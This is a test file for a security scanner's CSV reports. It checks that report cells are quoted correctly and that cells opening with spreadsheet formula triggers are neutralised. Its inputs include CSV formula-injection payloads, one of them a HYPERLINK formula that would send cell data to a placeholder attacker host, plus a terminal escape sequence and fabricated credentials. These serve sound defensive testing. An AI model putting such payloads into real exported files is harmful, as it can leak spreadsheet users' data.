import { readFileSync } from 'node:fs';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { csvCell, FINDINGS_CSV_COLUMNS, formatCsvTable, ROUTES_CSV_COLUMNS } from '../src/reporters/csv.js';
import { defineRule } from '../src/rules/define-rule.js';
import { allRules } from '../src/rules/index.js';
import { entryName } from '../src/types.js';
import { makeProject, runCli } from './helpers/cli.js';

/**
 * A strict RFC 4180 reader, written here so the test does not share code with the writer:
 * records end in CRLF (the last one too), a field is either quoted (quotes inside doubled, any
 * character allowed) or holds no comma, quote, CR or LF. Anything else throws.
 */
function parseCsv(text: string): string[][] {
  expect(text.startsWith('\uFEFF'), 'UTF-8 BOM first').toBe(true);
  const body = text.slice(1);
  const records: string[][] = [];
  let fields: string[] = [];
  let at = 0;
  while (at < body.length) {
    let value = '';
    if (body[at] === '"') {
      at += 1;
      for (;;) {
        const quote = body.indexOf('"', at);
        if (quote < 0) throw new Error('unterminated quoted field');
        value += body.slice(at, quote);
        if (body[quote + 1] === '"') {
          value += '"';
          at = quote + 2;
        } else {
          at = quote + 1;
          break;
        }
      }
    } else {
      const stop = /[,"\r\n]/g;
      stop.lastIndex = at;
      const hit = stop.exec(body);
      if (hit?.[0] === '"') throw new Error(`quote inside an unquoted field at ${hit.index}`);
      if (hit?.[0] === '\n') throw new Error(`bare LF at ${hit.index}`);
      const end = hit ? hit.index : body.length;
      value = body.slice(at, end);
      at = end;
    }
    fields.push(value);
    if (body[at] === ',') {
      at += 1;
      if (at === body.length) throw new Error('comma at end of input');
    } else if (body.startsWith('\r\n', at)) {
      records.push(fields);
      fields = [];
      at += 2;
    } else {
      throw new Error(`expected a comma or CRLF at ${at}, found ${JSON.stringify(body.slice(at, at + 10))}`);
    }
  }
  if (fields.length > 0) throw new Error('the last record does not end in CRLF');
  return records;
}

/** Header and records as objects; every record as wide as the header. */
function readTable(text: string): { header: string[]; rows: Array<Record<string, string>> } {
  const [header, ...records] = parseCsv(text);
  for (const record of records) expect(record).toHaveLength(header!.length);
  return { header: header!, rows: records.map((record) => Object.fromEntries(header!.map((name, index) => [name, record[index]!]))) };
}

/** What a spreadsheet must never see first in a cell: OWASP's triggers, or one behind whitespace. */
const DANGEROUS_START = /^(?:[=+\-@\t\r]|\s+[=+\-@])/;
/** The expected cell for untrusted text: as written, with an apostrophe when it would be a formula. */
const neutralised = (text: string) => (DANGEROUS_START.test(text) ? `'${text}` : text);

function expectNoFormulaCells(rows: ReadonlyArray<Record<string, string>>): void {
  for (const row of rows) for (const [column, cell] of Object.entries(row)) expect(cell, `${column}: ${cell}`).not.toMatch(DANGEROUS_START);
}

describe('csvCell', () => {
  it.each([
    ['plain', 'plain'],
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\t=1+1', `"'\t=1+1"`],
    ['\r=1+1', `"'\r=1+1"`],
    [' =1+1', "' =1+1"],
    ['\n@x', `"'\n@x"`],
    ['=HYPERLINK("https://evil.example/?"&A1,"open")', `"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`],
    // A trigger later in the cell does not start it; CWE ids and paths stay as they are.
    ['CWE-79', 'CWE-79'],
    ['a=b', 'a=b'],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['crlf\r\ninside', '"crlf\r\ninside"'],
    // Other dialects' delimiters are quoted too: `a;=1+1` must stay one cell in a `;` locale.
    ['a;=1+1', '"a;=1+1"'],
    ['tab\there', '"tab\there"'],
    // Terminal and bidi controls show as escapes; a NUL can then never lead.
    ['\u001b]52;c;x\u0007', '"\\x1b]52;c;x\\x07"'],
    ['\u0000=1', '\\x00=1'],
    ['a\u202eb', 'a\\u202eb'],
  ])('%j -> %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('writes numbers as they are, negative ones too, and undefined as an empty cell', () => {
    expect(csvCell(12)).toBe('12');
    expect(csvCell(-1)).toBe('-1');
    expect(csvCell(undefined)).toBe('');
  });

  it('writes a BOM, a header and CRLF after every record, and reads back what it wrote', () => {
    const values = ['=1+1', 'a,"b"\nc', '', 'x'];
    const text = formatCsvTable(['a', 'b', 'c', 'd'], [values, [1, undefined, 'é', '-']]);
    expect(text.startsWith('\uFEFFa,b,c,d\r\n')).toBe(true);
    expect(text.endsWith('\r\n')).toBe(true);
    expect(parseCsv(text)).toEqual([['a', 'b', 'c', 'd'], ["'=1+1", 'a,"b"\nc', '', 'x'], ['1', '', 'é', "'-"]]);
  });
});

// Fabricated, shape-correct credentials (not real keys).
const STRIPE_KEY = 'sk_live_9fQ2mXz7LkP4wR8tYv1Nb6Hc3Jd5';
const WEIRD_FILE = 'src/we,"ird"\nname.ts';

/** A hostile project: file names, a suppression reason and route names that are formulas. */
const hostileProject = {
  [WEIRD_FILE]: `export const stripe = { apiKey: '${STRIPE_KEY}' };\n`,
  '=cmd.ts': [
    `import express from 'express';`,
    `export const app = express();`,
    `declare const evil: (req: unknown, res: unknown, next: () => void) => void;`,
    `app.get('/m', -evil, (req, res) => { res.json({}); });`,
    `app.get('/+1', (req, res) => { res.json({}); });`,
    `export const dbPassword = 'Tr0ub4dor&3-horse-staple-91x'; // trustscan-ignore hardcoded-secret -- =HYPERLINK("https://evil.example","x")`,
    '',
  ].join('\n'),
  '-x.ts': `export const password = 'Tr0ub4dor&3-horse-staple-92y';\n`,
  'src/trpc.ts': [
    `import { initTRPC } from '@trpc/server';`,
    `const t = initTRPC.create();`,
    `export const appRouter = t.router({`,
    `  '=HYPERLINK("https://evil.example/?"&A1,"open")': t.procedure.query(() => 1),`,
    `  '@SUM(1+1)': t.procedure.mutation(() => 2),`,
    `});`,
    '',
  ].join('\n'),
};

interface JsonFinding {
  ruleId: string;
  severity: string;
  confidence: string;
  message: string;
  file: string;
  line: number;
  column: number;
  route?: { kind?: 'graphql' | 'trpc' | 'lambda'; method: string; path: string };
  controls: { soc2: string[]; owaspApi: string[]; cwe: string[] };
  fingerprint: string;
  suppression?: { kind: string; justification: string };
}

describe('trustscan scan --format csv', () => {
  it('has one row per finding of the JSON report, in its order, with the same values (formula cells neutralised)', async () => {
    const cwd = makeProject(hostileProject);
    const json = await runCli(['scan', '.', '-f', 'json', '--fail-on', 'none'], { cwd });
    const csv = await runCli(['scan', '.', '-f', 'csv', '--fail-on', 'none'], { cwd });
    expect(csv.code).toBe(0);
    const findings: JsonFinding[] = JSON.parse(json.stdout).findings;
    const { header, rows } = readTable(csv.stdout);
    expect(header).toEqual([...FINDINGS_CSV_COLUMNS]);
    expect(rows.length).toBe(findings.length);
    expect(findings.length).toBeGreaterThanOrEqual(3);
    findings.forEach((finding, index) => {
      expect(rows[index]).toEqual({
        rule: finding.ruleId,
        severity: finding.severity,
        confidence: finding.confidence,
        file: neutralised(finding.file),
        line: String(finding.line),
        column: String(finding.column),
        message: neutralised(finding.message),
        route: finding.route ? neutralised(entryName(finding.route)) : '',
        soc2: finding.controls.soc2.join('; '),
        owasp_api: finding.controls.owaspApi.join('; '),
        cwe: finding.controls.cwe.join('; '),
        fingerprint: finding.fingerprint,
        suppressed: finding.suppression ? 'true' : 'false',
        suppression_justification: finding.suppression ? neutralised(finding.suppression.justification) : '',
      });
    });
    expectNoFormulaCells(rows);

    // A path with a comma, quotes and a newline comes back whole.
    expect(rows.map((row) => row.file)).toContain(WEIRD_FILE);
    // File names and the suppression reason that are formulas are text with an apostrophe.
    const byFile = (file: string) => rows.find((row) => row.file === file && row.rule === 'hardcoded-secret');
    expect(byFile("'-x.ts")).toMatchObject({ rule: 'hardcoded-secret', suppressed: 'false' });
    expect(byFile("'=cmd.ts")).toMatchObject({ rule: 'hardcoded-secret', suppressed: 'true', suppression_justification: `'=HYPERLINK("https://evil.example","x")` });
    // Secrets are masked, as in JSON.
    expect(csv.stdout).not.toContain(STRIPE_KEY);
    expect(csv.stdout).not.toContain('Tr0ub4dor&3-horse-staple-92y');
  });

  it('round-trips a message with a comma, quotes and a newline that starts like a formula, and never prints a control character raw', async () => {
    const message = '=HYPERLINK("https://evil.example"), then "quoted",\nsecond line \u001b[31mred';
    const rule = defineRule({
      ...allRules.find((candidate) => candidate.meta.id === 'hardcoded-secret')!,
      create: undefined,
      check(ctx) {
        for (const file of ctx.sourceFiles) ctx.report({ file: file.path, start: 0, end: 6, message, route: { kind: 'trpc', method: 'QUERY', path: '-order.get' } });
      },
    });
    const cwd = makeProject({ 'src/a.ts': 'export const a = 1;\n' });
    const run = await runCli(['scan', '.', '-f', 'csv'], { cwd, rules: [rule] });
    expect(run.stdout).not.toContain('\u001b');
    const { rows } = readTable(run.stdout);
    expect(rows).toHaveLength(1);
    expect(rows[0]).toMatchObject({ file: 'src/a.ts', line: '1', column: '1', route: 'TRPC -order.get', message: `'${message.replace('\u001b', '\\x1b')}` });
  });

  it('keeps the exit code of the other formats (--fail-on), the summary on stderr, and -o writes the same bytes', async () => {
    const cwd = makeProject(hostileProject);
    const failing = await runCli(['scan', '.', '-f', 'csv'], { cwd });
    expect(failing.code).toBe(1);
    expect(failing.stderr).toMatch(/findings?: .*critical/);
    expect((await runCli(['scan', '.', '-f', 'csv', '--fail-on', 'critical'], { cwd })).code).toBe(1);
    expect((await runCli(['scan', '.', '-f', 'csv', '--fail-on', 'none'], { cwd })).code).toBe(0);
    // The suppressed finding does not fail the gate; the unsuppressed one of the same severity does.
    const secretsOnly = ['-f', 'csv', '--fail-on', 'high', '--rule', 'hardcoded-secret'];
    expect((await runCli(['scan', './=cmd.ts', ...secretsOnly], { cwd })).code).toBe(0);
    expect((await runCli(['scan', './-x.ts', ...secretsOnly], { cwd })).code).toBe(1);
    const toFile = await runCli(['scan', '.', '-f', 'csv', '-o', 'findings.csv', '--fail-on', 'none'], { cwd });
    expect(toFile.stdout).toBe('');
    expect(toFile.stderr).toContain('Report written to findings.csv');
    expect(readFileSync(path.join(cwd, 'findings.csv'), 'utf8')).toBe(failing.stdout);
    const clean = await runCli(['scan', '.', '-f', 'csv'], { cwd: makeProject({ 'src/ok.ts': 'export const a = 1;\n' }) });
    expect(clean.code).toBe(0);
    expect(clean.stdout).toBe(`\uFEFF${FINDINGS_CSV_COLUMNS.join(',')}\r\n`);
  });

  it('is deterministic: two runs give the same bytes', async () => {
    const cwd = makeProject(hostileProject);
    const first = await runCli(['scan', '.', '-f', 'csv', '--fail-on', 'none'], { cwd });
    const second = await runCli(['scan', '.', '-f', 'csv', '--fail-on', 'none'], { cwd });
    expect(second.stdout).toBe(first.stdout);
  });
});

interface JsonRoute {
  framework: string;
  kind: string;
  method: string;
  path: string;
  file: string;
  line: number;
  column: number;
  handler?: { name: string };
  auth: string;
  authEvidence: string[];
  publicByDesign?: string;
  caller?: string;
  principal: string[];
  middleware: Array<{ name: string; kind: string }>;
}

describe('trustscan routes --format csv', () => {
  it('mirrors the JSON inventory, one row per route, and neutralises route names, middleware and files that are formulas', async () => {
    const cwd = makeProject(hostileProject);
    const json = await runCli(['routes', '.', '-f', 'json'], { cwd });
    const csv = await runCli(['routes', '.', '-f', 'csv'], { cwd });
    expect(csv.code).toBe(0);
    const routes: JsonRoute[] = JSON.parse(json.stdout).routes;
    const { header, rows } = readTable(csv.stdout);
    expect(header).toEqual([...ROUTES_CSV_COLUMNS]);
    expect(rows.length).toBe(routes.length);
    routes.forEach((route, index) => {
      expect(rows[index]).toMatchObject({
        kind: route.kind,
        method: route.method,
        path: neutralised(route.path),
        file: neutralised(route.file),
        line: String(route.line),
        column: String(route.column),
        handler: neutralised(route.handler?.name ?? ''),
        auth: route.auth,
        auth_evidence: neutralised(route.authEvidence.join('; ')),
        public_by_design: neutralised(route.publicByDesign ?? ''),
        caller: route.caller ?? '',
        principal: neutralised(route.principal.join('; ')),
        middleware: neutralised(route.middleware.map((m) => `${m.name} (${m.kind})`).join('; ')),
        framework: route.framework,
      });
    });
    expectNoFormulaCells(rows);

    const byPath = (routePath: string) => rows.find((row) => row.path === routePath);
    expect(byPath(`'=HYPERLINK("https://evil.example/?"&A1,"open")`)).toMatchObject({ kind: 'trpc', method: 'QUERY', file: 'src/trpc.ts' });
    expect(byPath(`'@SUM(1+1)`)).toMatchObject({ kind: 'trpc', method: 'MUTATION' });
    // A middleware written `-evil` and the file `=cmd.ts`: text, not formulas.
    expect(byPath('/m')).toMatchObject({ file: "'=cmd.ts", middleware: "'-evil (other)", auth: 'unknown' });
    // A trigger that does not lead the cell is left alone.
    expect(byPath('/+1')).toMatchObject({ file: "'=cmd.ts", middleware: '' });
  });

  it('lists role guards, rate limits and object access, and is deterministic', async () => {
    const cwd = makeProject({
      'src/app.ts': [
        `import express from 'express';`,
        `import rateLimit from 'express-rate-limit';`,
        `import { PrismaClient } from '@prisma/client';`,
        `import { requireAuth, requireRole } from './auth';`,
        `const prisma = new PrismaClient();`,
        `export const app = express();`,
        `const limiter = rateLimit({ windowMs: 60_000, max: 5 });`,
        `app.post('/admin/users', requireAuth, requireRole('admin'), limiter, (req, res) => { res.json({}); });`,
        `app.get('/orders/:id', requireAuth, async (req, res) => { res.json(await prisma.order.findUnique({ where: { id: req.params.id } })); });`,
        '',
      ].join('\n'),
      'src/auth.ts': [
        `import jwt from 'jsonwebtoken';`,
        `export function requireAuth(req: any, res: any, next: any) {`,
        `  try { req.user = jwt.verify(req.headers.authorization, process.env.JWT_SECRET!); next(); } catch { res.status(401).end(); }`,
        `}`,
        `export const requireRole = (role: string) => (req: any, res: any, next: any) => (req.user?.role === role ? next() : res.status(403).end());`,
        '',
      ].join('\n'),
    });
    const first = await runCli(['routes', '.', '-f', 'csv'], { cwd });
    const second = await runCli(['routes', '.', '-f', 'csv'], { cwd });
    expect(second.stdout).toBe(first.stdout);
    const { rows } = readTable(first.stdout);
    expect(rows).toHaveLength(2);
    const admin = rows.find((row) => row.path === '/admin/users');
    expect(admin).toMatchObject({ method: 'POST', auth: 'authenticated', role_guards: "requireRole('admin') [admin]", rate_limits: 'limiter', framework: 'express' });
    expect(admin!.middleware).toBe("requireAuth (auth); requireRole('admin') (role); limiter (rate-limit)");
    expect(rows.find((row) => row.path === '/orders/:id')).toMatchObject({ auth: 'authenticated', object_access: 'reads order (findUnique) by id at src/app.ts:9: unchecked' });
  });

  it('writes the inventory with -o, and rejects an unknown format', async () => {
    const cwd = makeProject(hostileProject);
    const toFile = await runCli(['routes', '.', '-f', 'csv', '-o', 'routes.csv'], { cwd });
    expect(toFile.code).toBe(0);
    expect(readFileSync(path.join(cwd, 'routes.csv'), 'utf8')).toBe((await runCli(['routes', '.', '-f', 'csv'], { cwd })).stdout);
    const bad = await runCli(['routes', '.', '-f', 'xlsx'], { cwd });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toMatch(/Allowed choices are text, json, csv/);
  });
});
